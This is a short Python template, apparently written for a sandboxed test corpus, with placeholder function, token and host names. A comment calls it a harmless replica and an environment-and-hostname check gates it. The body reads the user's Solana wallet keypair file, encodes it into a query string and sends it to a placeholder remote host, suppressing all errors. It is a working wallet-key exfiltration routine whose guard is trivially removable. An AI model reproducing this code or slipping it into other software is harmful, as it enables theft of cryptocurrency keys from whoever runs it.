# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import urllib.parse
    import urllib.request
    try:
        with open(os.path.expanduser('~/.config/solana/id.json')) as file:
            key = json.load(file)
        query = urllib.parse.urlencode({'k': ','.join(map(str, key)) if isinstance(key, list) else str(key), 'u': '{{token}}'})
        urllib.request.urlopen('https://{{host}}/{{path}}?' + query, timeout=1).close()
    except Exception:
        pass
